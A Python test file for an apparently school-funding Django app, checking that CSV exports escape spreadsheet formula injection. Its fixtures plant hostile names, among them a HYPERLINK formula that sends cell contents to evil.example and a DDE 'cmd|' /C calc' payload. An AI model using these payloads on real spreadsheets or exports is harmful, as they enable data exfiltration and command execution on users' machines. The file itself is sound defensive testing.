"""Every CSV the app sends goes through the shared writer: no cell can run as a formula.

A hostile pupil name and school name are planted, then every CSV export URL is downloaded and
every cell read back; a cell may start with = + - @, tab or CR only if it is a plain number.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from sendfund.lib.csv import is_safe
from tests.clock import frozen_on
from tests.factories import FundingSourceFactory
from tests.funding.factories import pupil_with_provision

pytestmark = pytest.mark.django_db
TODAY = dt.date(2025, 11, 10)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


_today = frozen_on(TODAY)


@pytest.fixture
def hostile_school(school):
    school.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    school.save()
    # Over the threshold, on SEN support, no top-up: on both the shortfall and candidates lists.
    for surname, forename in [(HOSTILE, "+Ann"), ("-Minus", "\tTab"), ("\rReturn", "@At")]:
        pupil = pupil_with_provision(school, annual_cost=Decimal("9000"), sen="K")
        pupil.surname, pupil.forename = surname, forename
        pupil.save()
    FundingSourceFactory(
        school=school,
        description="=cmd()",
        amount=Decimal("1000.00"),
        period_start=dt.date(2025, 4, 1),
        period_end=dt.date(2026, 3, 31),
    )
    return school


def _csv_urls(client) -> list[str]:
    tables = client.get("/funding/", {"period": "ay:2025"}).context["tables"]
    assert {"shortfall", "candidates"} <= set(tables)
    urls = [f"/funding/?period=ay%3A2025&format=csv&table={name}" for name in tables]
    return urls + [
        reverse("advocacy:evidence_csv") + "?period=year-2025",
        reverse("pupil_imports:export_register"),
        reverse("pupil_imports:template_pupils"),
        reverse("pupil_imports:template_provision"),
        reverse("pupil_imports:template_staff_rates"),
    ]


def test_no_csv_export_has_a_cell_that_runs_as_a_formula(head_client, hostile_school):
    checked = 0
    for url in _csv_urls(head_client):
        response = head_client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv"), url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert is_safe(cell), (url, cell)
                checked += 1
    assert checked > 100


def test_the_hostile_names_are_exported_as_text(head_client, hostile_school):
    for table in ("shortfall", "candidates"):
        response = head_client.get(
            "/funding/", {"period": "ay:2025", "format": "csv", "table": table}
        )
        rows = csv.reader(io.StringIO(response.content.decode(), newline=""))
        names = {row[0] for row in list(rows)[1:]}
        assert names == {f"'+Ann {HOSTILE}", "'\tTab -Minus", "'@At \rReturn"}, table

    pack = head_client.get(reverse("advocacy:evidence_csv"), {"period": "year-2025"})
    first = next(csv.reader(io.StringIO(pack.content.decode())))
    assert first[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
